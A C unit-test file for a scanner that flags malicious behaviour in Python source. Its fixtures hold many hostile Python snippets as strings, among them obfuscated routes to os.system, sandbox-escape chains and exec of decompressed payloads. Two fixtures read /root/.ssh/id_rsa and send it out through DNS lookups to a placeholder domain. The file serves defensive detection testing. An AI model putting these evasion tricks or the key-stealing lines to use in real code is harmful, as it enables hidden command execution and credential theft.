/* What is found by whatever name or door: each row of the tables of effects, each way to a module. */
#include "tests/ch_test.h"

#include <stdio.h>

#include "scanner/source/source_int.h"
#include "tests/scanner/source/source_look.h"

static size_t differences;

/* A call with what makes the check of an effect find something. False: that row is told otherwise. */
static bool telling_call(const char *name, uint32_t effect, const char *arguments, char *text, size_t size)
{
    bool method = name[0] == '.';
    bool link = strcmp(name, ".symlink_to") == 0 || strcmp(name, ".hardlink_to") == 0;
    const char *self = "pathlib.Path('a/x.dat')";
    if (effect == EFFECT_IMPORT && strncmp(name, "runpy.", 6) == 0) {
        return false;
    }
    if (strcmp(name, "shutil.copyfileobj") == 0) {
        arguments = "(open('a/x.dat'), open('a/x.py', 'w'))";
    } else if (method && effect == EFFECT_REMOVE) {
        self = "pathlib.Path(__file__)";
        arguments = "()";
    } else if (link || effect == EFFECT_WRITE) {
        self = "pathlib.Path('a/x.py')";
        arguments = link ? "('a/x.dat')" : arguments;
    } else if (method && effect == EFFECT_MOVE) {
        arguments = "('a/x.py')";
    }
    snprintf(text, size, "import %.*s\n%s%s%s\n", method ? 7 : (int)strcspn(name, "."),
             method ? "pathlib" : name, method ? self : "", name, arguments);
    return true;
}

/* Each row of the tables that a check begins with: a source that has what it needs besides is found. */
static void finds_each_row_of_effects(void **state)
{
    (void)state;
    static const struct {
        uint32_t effect;
        const char *finding, *before, *arguments;
    } ways[] = {
        {EFFECT_MOVE, "data-code", "", "('a/x.dat', 'a/x.py')"},
        {EFFECT_IMPORT, "hidden-name", "import zlib\n", "(zlib.decompress(b'x'))"},
        {EFFECT_RESOLVE, "hidden-name", "import zlib\n", "(zlib.decompress(b'x'))"},
        {EFFECT_LOADER, "data-code", "", "('a/x.dat', 'a/x.dat')"},
        {EFFECT_SUFFIX, "data-code", "", "(0, '.dat')"},
        {EFFECT_LOOKUP, "dns-theft", "import socket\n", "(socket.gethostname() + '.example.org')"},
        {EFFECT_REMOVE, "self-delete", "", "(__file__)"},
        {EFFECT_FINDER, "import-network",
         "import requests\nclass F:\n def find_spec(self): requests.get('http://example.org/')\n", "(F())"},
        {EFFECT_CONFIG, "hidden-name", "", "({'h': {'()': 'os.system'}})"},
        {EFFECT_REGISTRY, "persistence", "K = 'CurrentVersion\\\\Run'\n", "(1, 'x', 0, 1, 'y')"},
        {EFFECT_CONNECT, "import-network", "", "('example.org', 1)"},
        {EFFECT_KEYS, "keylogger", "import requests\nrequests.get('http://example.org/')\n", "(f)"},
        {EFFECT_CLIPBOARD, "clipboard-wallet", "P = '0x[a-fA-F0-9]{40}'\n", "(t)"},
        {EFFECT_WRITE, "data-code", "", "(open('a/x.dat').read())"},
    };
    size_t rows = 0;
    uint32_t effects;
    const char *name;
    for (size_t i = 0; (name = effects_row(i, &effects)) != NULL; i++) {
        for (size_t k = 0; k < CH_ARRAY_LEN(ways); k++) {
            char text[600], word[80];
            size_t before = strlen(ways[k].before);
            snprintf(text, sizeof(text), "%s", ways[k].before);
            if ((effects & ways[k].effect) == 0 ||
                !telling_call(name, ways[k].effect, ways[k].arguments, text + before, sizeof(text) - before)) {
                continue;
            }
            struct ch_buf out;
            snprintf(word, sizeof(word), " %s ", ways[k].finding);
            ch_buf_init(&out, 4096);
            look(text, strlen(text), CH_PLACE_IMPORT, &out);
            ch_buf_putc(&out, '\0');
            if (strstr(out.ptr, word) == NULL) {
                print_error("expected %s, got \"%s\" of:\n%s\n", ways[k].finding, out.ptr, text);
                differences++;
            }
            ch_buf_done(&out);
            rows++;
        }
    }
    assert_int_equal(differences, 0);
    assert_true(rows > 100);
}

/* All ways to a module: also where the artifact is known to use network and programs, so that these alone are nothing
 * new. */
static void sees_modules_by_all_doors(void **state)
{
    (void)state;
    static const char known[] = "import ctypes, os, requests, subprocess\n"
                                "def f():\n"
                                "    requests.get(u)\n"
                                "    os.getenv('A')\n"
                                "    eval(x)\n"
                                "    subprocess.run(x)\n"
                                "P = '~/.netrc'\n";
    static const char *const rows[][2] = {
        {"import-process", "import posix\nposix.system('id')\n"},
        {"import-process", "import nt\nnt.system('id')\n"},
        {"import-process", "from random import choice, _os\n_os.system('id')\n"},
        {"import-process", "import shutil\nx = shutil.os\nx.system('id')\n"},
        {"import-process", "import shutil\nx = (shutil. # a\nos)\nx.system('id')\n"},
        {"import-process", "import tempfile\n(tempfile._os).system('id')\n"},
        {"import-process", "import platform\nplatform.subprocess.call('id')\n"},
        {"import-process", "import _sys\n_sys.modules['os'].system('id')\n"},
        {"import-process", "import logging\nlogging.sys.modules['o' 's'].system('id')\n"},
        {"import-network", "import _socket\n_socket.socket().connect(('a.example', 1))\n"},
        {"import-network", "import ssl\nssl.socket.create_connection(('a.example', 1))\n"},
        {"import-network", "from six.moves import http_client as h\n"
                           "h.HTTPConnection('a.example').request('GET', '/')\n"},
        {"import-network", "from six.moves.urllib.request import urlopen\nurlopen('http://a.example')\n"},
        {"import-network", "import a._vendor.requests as r\nr.post('http://a.example')\n"},
        {"hidden-code", "import cPickle\ncPickle.loads(b'cos\\nsystem\\n(S1\\ntR.')\n"},
        {"data-code", "from importlib.machinery import SourcelessFileLoader as L\nL('x', 'a.bin').load_module()\n"},
        /* as it is spaced */
        {"import-process", "import\fos\nos.system('id')\n"},
        {"import-process", "import re,\fsubprocess\nsubprocess.call('id')\n"},
        {"import-process", "from \\\n os import system\nsystem('id')\n"},
        {"import-process", "from shutil import (copy, # a\n  os)\nos.system('id')\n"},
        {"import-process", "from shutil import ( # a, '#'\n# b\n\n  # c\nos)\nos.system('id')\n"},
        {"import-process", "from shutil import copy as c, \\\n  os\nos.system('id')\n"},
        {"import-process", "import a . b, os\nos.system('id')\n"},
        {"import-process", "x = '#'; import a as b, os\nos.system('id')\n"},
        {"import-process", "from shutil import (  # all, of\n# it (here)\n  copy, os)\nos.system('id')\n"},
        {"import-process", "import subprocess as s\ns.run('id')\n"},
        {"import-process", "from subprocess import *\nrun('id')\n"},
        {"import-network", "from requests import\f*\nget('http://a.example')\n"},
        {"hidden-code", "import zlib\nx = 0x1or eval\nx(zlib.decompress(b''))\n"},
        {"hidden-code", "import zlib\nx = 1.e5or eval\nx(zlib.decompress(b''))\n"},
        /* names made of texts */
        {"import-process", "import os\\\n as o\nn = 'sys'\nn += 'tem'\ngetattr(o, n)('id')\n"},
        {"import-process", "import os as o\nclass A:\n    m = [o]\nn = 'sys'\nn += 'tem'\ngetattr(A.m[0], n)('id')\n"},
        {"import-process", "import os as o\nn = 'sys'\nn += 'tem'\no.__dict__[n]('id')\n"},
        {"import-process", "class A:\n    import os as o\nn = 'sys'\nn += 'tem'\ngetattr(A.o, n)('id')\n"},
        {"import-process", "import os\nm = os\nimport sys\ngetattr(m, 'sys'+'tem')('id')\n"},
        {"import-process", "class A:\n    import os as m\ngetattr(A. m, 'sys'+'tem')('id')\n"},
        {"import-process", "class A:\n    import os as m\ngetattr(getattr(A, 'm'), 'sys'+'tem')('id')\n"},
        {"import-process", "class A:\n    import os as m\ngetattr(getattr(A, chr(109)), 'sys'+'tem')('id')\n"},
        {"import-process", "class A:\n    import os\ngetattr(getattr(A, 'o'+'s'), 'sys'+'tem')('id')\n"},
        {"import-process", "class A: import os\ngetattr(getattr(A, 'o'+'s'), 'sys'+'tem')('id')\n"},
        {"import-process", "class A: \\\nimport os\ngetattr(getattr(A, 'o'+'s'), 'sys'+'tem')('id')\n"},
        {"import-process", "class A:\n    import re, os\ngetattr(getattr(A, 'o'+'s'), 'sys'+'tem')('id')\n"},
        {"import-process", "class A:\n    from shutil import (copy,\n os)\n"
                           "getattr(getattr(A, 'o'+'s'), 'sys'+'tem')('id')\n"},
        {"hidden-name", "import importlib\ngetattr(importlib,'import_'+'module')('o'+'s').system('id')\n"},
        {"import-process", "import os\ngetattr(globals().get('os'), 'sys'+'tem')('id')\n"},
        /* the module's own names, by the module */
        {"import-process", "import os, sys\ngetattr(getattr(sys.modules[__name__], 'o'+'s'), 'sys'+'tem')('id')\n"},
        {"import-process", "import os, sys\ngetattr(sys.modules[__name__], 'o'+'s').system('id')\n"},
        {"import-process", "import os as o, sys\nsys.modules[__name__].o.system('id')\n"},
        {"import-process", "import os as o, sys\ngetattr(sys.modules.get(__name__), 'o').system('id')\n"},
        {"import-process", "import os as o, sys\nvars(sys.modules[__name__])['o'].system('id')\n"},
        {"import-process", "import os as o, sys\nsys.modules[__name__].__dict__.get('o').system('id')\n"},
        {"import-process", "import os as o, sys\nm = sys.modules[__name__]\nn = 'sys'\nn += 'tem'\ngetattr(m.o, n)('id')\n"},
        {"import-process", "import os as o, sys\ndef f(): pass\nsys.modules[f.__module__].o.system('id')\n"},
        {"import-process", "import os as o, importlib\nimportlib.import_module(__name__).o.system('id')\n"},
        {"import-process", "import os as o\n__import__(__name__).o.system('id')\n"},
        {"import-process", "import os as o, inspect\ndef f(): pass\ninspect.getmodule(f).o.system('id')\n"},
        {"import-process", "import os as o, operator, sys\noperator.attrgetter('o.system')(sys.modules[__name__])('id')\n"},
        {"import-process", "from os import system as s\nimport sys\ngetattr(sys.modules[__name__], chr(115))('id')\n"},
        {"import-process", "import sys\ngetattr(sys.modules['o'+'s'], 'sys'+'tem')('id')\n"},
        {"import-process", "import sys\ngetattr(sys.modules.get('o'+'s'), 'sys'+'tem')('id')\n"},
        {"import-process", "import os as o\ngetattr(globals()['o'], 'sys'+'tem')('id')\n"},
        {"import-process", "import os as o\ngetattr(vars()['o'], 'sys'+'tem')('id')\n"},
        {"import-process", "import shutil\ngetattr(shutil. os, 'sys'+'tem')('id')\n"},
        {"import-process", "import shutil\ngetattr(getattr(shutil, 'os'), 'sys'+'tem')('id')\n"},
        {"import-process", "class A:\n    from os import system as s\ngetattr(A, chr(115))('id')\n"},
        {"import-process", "import os\nn = 'sys'\nn += 'tem'\nos.__getattribute__(n)('id')\n"},
        {"import-process", "import os, operator\nn = 'sys'\nn += 'tem'\noperator.attrgetter(n)(os)('id')\n"},
        {"import-process", "import os, inspect\nn = 'sys'\nn += 'tem'\ninspect.getattr_static(os, n)('id')\n"},
        {"import-process", "import posix as o\nn = 'sys'\nn += 'tem'\ngetattr(o, n)('id')\n"},
        {"hidden-code", "import code, zlib\nx = code\nn = 'InteractiveInter'\nn += 'preter'\n"
                        "getattr(x, n)().runcode(zlib.decompress(b''))\n"},
        {"import-network", "from a import b, requests\nn = 'po'\nn += 'st'\ngetattr(requests, n)('http://a.example')\n"},
        /* the built-in functions, by all ways to their module */
        {"hidden-code", "import builtins as b\nb.__dict__.get('exec')(__import__('zlib').decompress(b'x'))\n"},
        {"hidden-code", "import builtins\nbuiltins.__dict__.pop('exec')(__import__('zlib').decompress(b'x'))\n"},
        {"hidden-code", "import builtins\nbuiltins.__getattribute__('exec')(__import__('zlib').decompress(b'x'))\n"},
        {"hidden-code", "import builtins\nvars(builtins).get('exec')(__import__('zlib').decompress(b'x'))\n"},
        {"hidden-code", "__builtins__.get('exec')(__import__('zlib').decompress(b'x'))\n"},
        {"hidden-code", "__builtins__.__dict__.get('exec')(__import__('zlib').decompress(b'x'))\n"},
        {"hidden-code", "globals().get('__builtins__').get('exec')(__import__('zlib').decompress(b'x'))\n"},
        {"hidden-code", "def f(): pass\nf.__builtins__['exec'](__import__('zlib').decompress(b'x'))\n"},
        {"hidden-code", "import code\ncode.__dict__['__builtins__']['exec'](__import__('zlib').decompress(b'x'))\n"},
        {"hidden-code", "print.__self__.exec(__import__('zlib').decompress(b'x'))\n"},
        {"hidden-code", "getattr(len.__self__, 'exec')(__import__('zlib').decompress(b'x'))\n"},
        {"import-process", "import functools, os\nfunctools.reduce(getattr, ['system'], os)('id')\n"},
        {"import-process", "import functools, shutil\nfunctools.reduce(getattr, ('os', 'sys' + 'tem'), shutil)('id')\n"},
        /* what no name leads to */
        {"import-process", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
                           ".__init__.__globals__['system']('id')\n"},
        {"import-process", "().__class__.__base__.__subclasses__()[130].__init__.__globals__['sys'].modules['os'].system('id')\n"},
        /* a secret stays one in every coding */
        {"dns-theft", "import socket, base64\nk = base64.b32encode(open('/root/.ssh/id_rsa', 'rb').read()).decode()\n"
                      "socket.gethostbyname(k[:60] + '.x.example.org')\n"},
        {"dns-theft", "import socket, zlib\nk = zlib.compress(open('/root/.ssh/id_rsa', 'rb').read()).hex()\n"
                      "socket.gethostbyname(k[:60] + '.x.example.org')\n"},
        /* what is decoded, into a file of source */
        {"hidden-code", "import zlib\nopen('a/x.py', 'wb').write(zlib.decompress(b'x'))\n"},
        {"hidden-code", "import base64\nopen('a/x.py', 'wb').write(base64.urlsafe_b64decode(b'x'))\n"},
    };
    size_t failures = 0;
    for (size_t i = 0; i < CH_ARRAY_LEN(rows); i++) {
        struct ch_buf out;
        char word[80];
        snprintf(word, sizeof(word), " %s ", rows[i][0]);
        ch_buf_init(&out, 4096);
        look_at(known, strlen(known), rows[i][1], CH_PLACE_IMPORT, CH_PLACE_IMPORT, &out);
        ch_buf_putc(&out, '\0');
        if (strstr(out.ptr, word) == NULL) {
            print_error("expected %s, got \"%s\" of:\n%s\n", rows[i][0], out.ptr, rows[i][1]);
            failures++;
        }
        ch_buf_done(&out);
    }
    assert_int_equal(failures, 0);
}

/* A text of many pieces is one text. */
static void sees_texts_of_many_pieces(void **state)
{
    (void)state;
    enum { PIECES = 4000 };
    struct ch_buf b;
    struct ch_buf out;
    ch_buf_init(&b, 1 << 16);
    ch_buf_init(&out, 4096);
    ch_buf_puts(&b, CH_STR("import requests\nx = ("));
    for (size_t i = 0; i < PIECES; i++) {
        ch_buf_puts(&b, CH_STR("'' "));
    }
    ch_buf_puts(&b, CH_STR("'stratum+' 'tcp:' '//a.b')\n"));
    look(b.ptr, b.len, CH_PLACE_IMPORT, &out);
    ch_buf_putc(&out, '\0');
    assert_non_null(strstr(out.ptr, " miner "));
    ch_buf_done(&b);
    ch_buf_done(&out);
}

/* What runs by itself is always read; of tests some are not, once they have given all notes. */
static void reads_whatever_runs(void **state)
{
    (void)state;
    struct ch_buf out;
    ch_buf_init(&out, 4096);
    const char *source = "x = (\n";
    look(source, strlen(source), CH_PLACE_IMPORT, &out);
    assert_str_eq(ch_buf_str(&out), " source-refused ");
    ch_buf_done(&out);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(finds_each_row_of_effects),
        cmocka_unit_test(sees_modules_by_all_doors),
        cmocka_unit_test(sees_texts_of_many_pieces),
        cmocka_unit_test(reads_whatever_runs),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
